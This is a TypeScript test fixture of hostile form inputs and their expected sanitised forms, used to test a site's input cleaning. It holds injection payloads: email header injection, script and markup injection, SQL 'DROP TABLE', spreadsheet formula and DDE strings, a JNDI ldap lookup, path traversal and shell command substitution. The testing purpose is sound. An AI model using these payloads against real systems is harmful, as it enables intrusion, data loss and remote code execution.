import { MARK, MARKUP } from "./request";

/** A hostile text for a field, and the cleaned text that the site must store. */
export interface Payload {
  what: string;
  /** The urlencoded bytes, when they are not simply the encoded text. */
  encoded?: string;
  typed: string;
  cleaned: string;
}

/** All fields of a form except one. */
export function without<Fields extends object>(
  fields: Fields,
  name: keyof Fields,
): Partial<Fields> {
  const others = Object.entries(fields).filter(([other]) => other !== name);
  return Object.fromEntries(others) as Partial<Fields>;
}

const asTyped = (what: string, typed: string): Payload => ({ what, typed, cleaned: typed });

/** Each fits every free field of both forms, unless its title says otherwise. */
export const payloads: readonly Payload[] = [
  { what: "a NUL", typed: `${MARK}\0 plumbing`, cleaned: `${MARK} plumbing` },
  {
    what: "a line break and an email header",
    typed: `${MARK}\r\nBcc: x@evil.test`,
    cleaned: `${MARK}\nBcc: x@evil.test`,
  },
  {
    what: "a carriage return and an email header",
    typed: `${MARK}\rTo: x@evil.test`,
    cleaned: `${MARK}\nTo: x@evil.test`,
  },
  asTyped("a line separator and an email header", `${MARK}\u2028Cc: x@evil.test`),
  { what: "a next-line control", typed: `${MARK}\u0085Cc: x@evil`, cleaned: `${MARK}Cc: x@evil` },
  {
    what: "escape codes of a terminal",
    typed: `\x1b[31m${MARK}\x1b[0m\x07 \x1b]0;x`,
    cleaned: `[31m${MARK}[0m ]0;x`,
  },
  {
    what: "8-bit escape codes of a terminal",
    typed: `${MARK}\x9b31m red`,
    cleaned: `${MARK}31m red`,
  },
  {
    what: "surrounding white space",
    typed: ` \t\r\n\u00a0${MARK} works\u3000\ufeff\v`,
    cleaned: `${MARK} works`,
  },
  asTyped("a right-to-left override", `${MARK} \u202egnp.exe\u202c`),
  asTyped("emoji of several parts", `${MARK} 👩🏽\u200d🔧 👨\u200d👩\u200d👧 🏴`),
  asTyped("letters with many combining marks", `${MARK} Z\u0337\u0322\u0321\u0353a\u0334\u0315l`),
  asTyped("zero-width characters", `${MARK}\u200b\u200d\u2060\u00ad works`),
  {
    what: "half of a surrogate pair",
    typed: `${MARK}\ufffd\ufffd\ufffd works`,
    encoded: `${MARK}%ED%A0%80+works`,
    cleaned: `${MARK}\ufffd\ufffd\ufffd works`,
  },
  {
    what: "percent-encoded bytes that are not UTF-8",
    typed: `${MARK}\ufffd\ufffd works`,
    encoded: `${MARK}%FF%C3+works`,
    cleaned: `${MARK}\ufffd\ufffd works`,
  },
  asTyped("SQL", `${MARK}'); DROP TABLE orders;--`),
  asTyped("markup", MARKUP),
  asTyped("an image that fails", `<img src=x onerror="alert('${MARK}')">`),
  asTyped("encoded markup", `&lt;${MARK}&gt; &#60;script&#62; &amp;amp;`),
  asTyped("the end of a script", `</script><!--${MARK}--><svg/onload=1>`),
  asTyped("templates", `{{${MARK}}} \${${MARK}} <%= ${MARK} %> #{7*7}`),
  asTyped("a spreadsheet formula", `=cmd|' /C calc'!A0 ${MARK}`),
  asTyped("another spreadsheet formula", `@SUM(1+1)*${MARK}|'x'!A1`),
  asTyped("a web address", `https://${MARK}.test/?a=b&c=d`),
  asTyped("a link", `[${MARK}](javascript:alert(1))`),
  asTyped("several email addresses", `${MARK}@evil.test, Bob <b@evil.test>`),
  asTyped("JSON", `{"${MARK}":{"__proto__":{"x":1}}}`),
  asTyped("a path", `../../../../etc/${MARK}`),
  asTyped("a JNDI lookup", `\${jndi:ldap://${MARK}.test/x}`),
  asTyped("format placeholders", `%s%n%x%00%0d%0a ${MARK} \\u0000`),
  asTyped("a shell command", `$(touch ${MARK}); \`id\` | cat`),
  { what: "only white space", typed: " \t\r\n\u00a0\u2003\u3000", cleaned: "" },
  { what: "only control characters", typed: "\0\x01\x7f\x9f", cleaned: "" },
  asTyped("60,000 characters", `${MARK}${"a".repeat(59_996)}`),
];

/**
 * Selects the cases of a form that `npm test` sends over HTTP: each payload in one of the free fields, markup in every
 * other field, and all cases that are not from this table.
 */
export const oneOfEach =
  (free: readonly string[]) =>
  ({ field, payload }: { field: string; payload: Payload }): boolean => {
    const turn = payloads.indexOf(payload);
    if (turn < 0) return true;
    return free.includes(field) ? free[turn % free.length] === field : payload.what === "markup";
  };
